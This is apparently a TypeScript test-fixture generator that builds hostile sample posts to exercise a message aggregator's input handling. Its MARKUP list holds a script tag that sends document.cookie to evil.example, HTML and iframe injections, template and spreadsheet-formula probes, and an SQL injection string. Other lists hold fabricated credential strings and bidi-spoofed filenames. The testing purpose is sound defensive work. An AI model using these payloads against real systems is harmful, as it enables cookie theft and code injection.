import { authorOf } from './parts/people.ts';
import { type Random, randomFrom } from './parts/random.ts';
import { drawReactions } from './parts/reactions.ts';
import type { Draft } from './parts/sample-post.ts';
import { VOICES } from './voices/index.ts';

const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';

function gibberish(length: number, random: Random): string {
  return Array.from({ length }, () => ALPHABET.charAt(random.below(ALPHABET.length))).join('');
}

/** Put together from parts, so that no scanner takes this file for a leak. */
const SECRETS: readonly ((random: Random) => string)[] = [
  (random) => `aws key ${['AK', 'IA'].join('')}${gibberish(16, random).toUpperCase()}`,
  (random) => `export GITHUB_TOKEN=${['gh', 'p_'].join('')}${gibberish(36, random)}`,
  (random) =>
    `Authorization: Bearer ${[`ey${'J'}hbGciOiJub25lIn0`, `ey${'J'}${gibberish(20, random)}`, gibberish(24, random)].join('.')}`,
  (random) => {
    const fenceOf = (edge: string) => `-----${edge} ${['PRIVATE', 'KEY'].join(' ')}-----`;
    return `${fenceOf('BEGIN')}\n${gibberish(64, random)}\n${gibberish(64, random)}\n${fenceOf('END')}`;
  },
  (random) => `${['pass', 'word'].join('')}: ${gibberish(14, random)}`,
  (random) => `SLACK=${['xo', 'xb'].join('')}-${gibberish(12, random)}-${gibberish(24, random)}`,
  (random) => `postgres://admin:${gibberish(10, random)}@db.internal.example:5432/app`,
  () => 'mail me at jane.doe.private@mail.example or +1 (555) 010-4477',
  (random) => `seen from 203.0.113.${random.below(255)} and 2001:db8::${random.below(9999)}`,
];

const MENTIONS = [
  '<!channel> <!here> <@U123ABCDE> please look',
  '@channel @everyone @here wake up',
  '<https://evil.example/login|click here to see your account>',
  '[totally safe](javascript:alert(1)) and <https://evil.example|https://sample.invalid>',
  '<!subteam^S0123|admins> <#C024BE7LR|general> *bold* _it_ ~gone~ `code` &amp;lt;',
];

const MARKUP = [
  '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
  '<img src=x onerror=alert(1)><iframe src="https://evil.example"></iframe>',
  '</div></body></html><style>*{display:none}</style>',
  '{{7*7}} #{7*7} <%= 7*7 %> =cmd|" /C calc"!A0',
  "Robert'); DROP TABLE posts;-- %00 \u0000 \\u0000 cut \ud83d",
];

/** What careless and ill-meaning people leave in an otherwise honest post. */
export function drawAccident(random: Random): string {
  return random.pick([random.pick(SECRETS)(random), random.pick(MENTIONS), random.pick(MARKUP)]);
}

type Shape = (random: Random) => { title: string | null; body: string };

const SHAPES: readonly Shape[] = [
  (random) => ({ title: random.pick(MENTIONS), body: MENTIONS.join('\n') }),
  (random) => ({ title: random.pick(MARKUP), body: MARKUP.join('\n') }),
  (random) => ({
    title: 'leaked???',
    body: SECRETS.map((secret) => secret(random)).join('\n'),
  }),
  () => ({ title: 'שלום \u202egnp.exe\u202c', body: 'مرحبا \u202eevil txet\u202c \u2067mixed\u2069 directions' }),
  () => ({ title: 'in\u200bvis\u200di\ufeffble', body: '\u200b\u200c\u200d\ufeff zero\u200bwidth\u00adsoft Z̷̡͎a̸̢l̶͚g̵̬o̴̙' }),
  (random) => ({ title: `${gibberish(7, random)} `.repeat(375).trim(), body: 'long title' }),
  (random) => ({ title: 'wall of text', body: `${gibberish(9, random)} and so on `.repeat(4_000) }),
  (random) => ({ title: random.pick(['🔥🔥🔥', '😭', '👀👀']), body: '🚀🚀🚀 💥 🤷‍♀️ 👍🏽 🏳️‍🌈' }),
  () => ({ title: null, body: '```\nfor(;;){}\n0x00 0xff 0xde 0xad\n```' }),
  (random) => ({ title: gibberish(60, random), body: gibberish(2_500, random) }),
  () => ({ title: '   ', body: '.' }),
  () => ({
    title: '🧵',
    body: `${'> '.repeat(200)}deep quote\n${'- '.repeat(200)}deep list\n${'#'.repeat(40)} heading`,
  }),
];

/** The hostile post with this running number; each shape comes in turn. */
export function composeHostile(ordinal: number): Draft {
  const random = randomFrom(`hostile ${ordinal}`);
  const shape = SHAPES[ordinal % SHAPES.length] ?? random.pick(SHAPES);
  const voice = random.pick(VOICES);
  return {
    provider: voice.provider,
    ...shape(random),
    author: random.chance(0.2) ? '<!here> <b>mallory</b>' : authorOf('hostile', ordinal, random),
    ...(voice.provider === 'github' ? { repository: 'bramblecourt/lounge', owner: 'bramblecourt' } : {}),
    licence: voice.licence,
    reactions: drawReactions(random),
  };
}
